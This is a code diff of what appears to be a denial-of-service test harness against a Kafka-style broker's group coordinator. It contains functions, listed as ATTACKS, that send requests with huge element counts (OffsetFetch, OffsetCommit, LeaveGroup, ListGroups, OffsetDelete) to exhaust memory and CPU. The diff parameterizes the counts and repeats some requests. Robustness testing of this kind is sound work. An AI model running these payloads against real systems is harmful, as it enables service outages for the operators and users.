@@ -7,17 +7,17 @@ import time
 
 import raw
 from sender import compact, frame, frame_of, i32, padded, text
-from targets import BIG_TOPIC
+from targets import BIG_TOPIC, ELEMENTS
 
 HOLD_SECONDS = 3
 SESSION_MS = 30000
 
 
 def offset_fetch_of_500k_groups(sender):
-    for groups in (b"\2g\0\0" * 500000,
-                   b"".join(compact("%06d" % n) + b"\0\0" for n in range(500000))):
-        body = raw.uvarint(500001) + groups + b"\0\0"
-        sender.ask("OffsetFetch", frame_of(9, 8, body, True))
+    for groups in (b"\2g\0\0" * ELEMENTS,
+                   b"".join(compact("%06d" % n) + b"\0\0" for n in range(ELEMENTS))):
+        body = raw.uvarint(ELEMENTS + 1) + groups + b"\0\0"
+        sender.ask_times("OffsetFetch", frame_of(9, 8, body, True), 2)
 
 
 def offset_commit_of_200k_partitions(sender):
@@ -68,18 +68,18 @@ def joins_that_vote_over_2000_static_members(sender):
     sender.pipeline("JoinGroup", [join_of("vote", [*names, "q"])] * 100)
 
 
-def leaves_of_300k_ids_beside_9000_pending(sender):
+def leaves_of_260k_ids_beside_9000_pending(sender):
     ask = join_of("leave", ["a"])  # answered with an id, which is kept until it is used
     for _ in range(9):
         sender.pipeline("JoinGroup", [ask] * 1000)
-    members = raw.uvarint(300001) + b"\1\0\0" * 300000
+    members = raw.uvarint(ELEMENTS + 1) + b"\1\0\0" * ELEMENTS
     sender.ask("LeaveGroup", frame_of(13, 4, compact("leave") + members + b"\0", True))
 
 
 def list_groups_with_a_million_filters(sender):
     sender.pipeline("JoinGroup", [join_of("list-%d" % n, ["a"]) for n in range(2000)])
-    filters = raw.uvarint(1000001) + b"\1" * 1000000
-    sender.ask("ListGroups", frame_of(16, 4, filters + b"\0", True))
+    filters = raw.uvarint(ELEMENTS + 1) + b"\1" * ELEMENTS
+    sender.ask_times("ListGroups", frame_of(16, 4, filters + b"\0", True), 4)
 
 
 # ---- members that wait
@@ -142,21 +142,21 @@ def assignments_of_12_MB_in_40_groups(sender):
 
 def offset_commit_of_one_partition_700k_times(sender):
     one = struct.pack(">iqih", 0, 5, -1, 0)
-    body = text("attack") + i32(-1) + text("") + i32(1) + text(BIG_TOPIC) + i32(700000)
-    sender.ask("OffsetCommit", frame_of(8, 6, body + one * 700000))
+    body = text("attack") + i32(-1) + text("") + i32(1) + text(BIG_TOPIC) + i32(ELEMENTS)
+    sender.ask_times("OffsetCommit", frame_of(8, 6, body + one * ELEMENTS), 3)
 
 
 def offset_delete_of_one_partition_4M_times(sender):
     sender.ask("OffsetCommit", frame("OffsetCommit", 6, {"GroupId": "delete", "Topics": [
         {"Name": BIG_TOPIC, "Partitions": [{"PartitionIndex": 0}]}]}))
-    body = text("delete") + i32(1) + text(BIG_TOPIC) + i32(4000000) + bytes(4 * 4000000)
-    sender.ask("OffsetDelete", frame_of(47, 0, body))
+    body = text("delete") + i32(1) + text(BIG_TOPIC) + i32(ELEMENTS) + bytes(4 * ELEMENTS)
+    sender.ask_times("OffsetDelete", frame_of(47, 0, body), 16)
 
 
 ATTACKS = [
     offset_fetch_of_500k_groups, offset_commit_of_200k_partitions, joins_with_40_MiB_of_metadata,
     joins_with_1_MiB_in_100_groups, joins_that_vote_over_2000_static_members,
-    leaves_of_300k_ids_beside_9000_pending, list_groups_with_a_million_filters,
+    leaves_of_260k_ids_beside_9000_pending, list_groups_with_a_million_filters,
     syncs_that_wait_with_20_MiB, joins_that_wait_with_60_kB_by_800,
     assignments_of_12_MB_in_40_groups, offset_commit_of_one_partition_700k_times,
     offset_delete_of_one_partition_4M_times,
